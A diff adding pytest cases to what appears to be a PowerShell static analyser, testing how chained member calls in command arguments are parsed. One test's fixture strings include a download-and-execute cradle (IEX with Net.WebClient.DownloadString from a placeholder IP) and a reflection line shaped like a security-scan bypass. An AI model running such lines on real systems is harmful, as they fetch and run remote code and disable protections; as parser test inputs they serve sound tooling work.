@@ -275,3 +275,28 @@ def test_a_comment_between_catch_clauses_is_no_catch_all_clause() -> None:
         catch [System.Exception] { 3 }
     """)
     assert lines_of(result, "PSParseError") == [5]
+
+
+@pytest.mark.parametrize("line", [
+    "Write-Output (Get-Date).AddDays(-30).ToString('yyyy-MM-dd')",
+    "Write-Host $name.Trim().ToUpper(); Write-Output $x.Trim().Length -NoEnumerate",
+    "$c | Add-Member -Name lm -Value ([BitConverter]::ToString($h)).Replace('-','').ToLower()",
+    "$y = Get-Item $a.Trim().ToLower()",
+])
+def test_members_chained_after_a_method_call_in_a_command_argument_are_one_argument(line: str) -> None:
+    result = analyze(line)
+    assert lines_of(result, "PSParseError") == []
+    assert lines_of(result, "PSAvoidUsingPositionalParameters") == []
+
+
+def test_expression_mode_chains_and_a_command_glued_to_parentheses_are_left_alone() -> None:
+    for text in ("$y = $x.Trim().Length", "Write-Output ($x.Trim().Length)",
+                 "IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')",
+                 "[Ref].Assembly.GetType('A').GetField('b').SetValue($null, $true)",
+                 "$entry = @{\n    time = (Get-Date).ToUniversalTime().ToString('o')\n}"):
+        assert parser_input(text.encode()) == text.encode(), text
+
+
+def test_three_positional_arguments_around_a_chain_are_still_three() -> None:
+    result = analyze("Join-Path $root.Trim().ToLower() logs app.log")
+    assert lines_of(result, "PSAvoidUsingPositionalParameters") == [1]
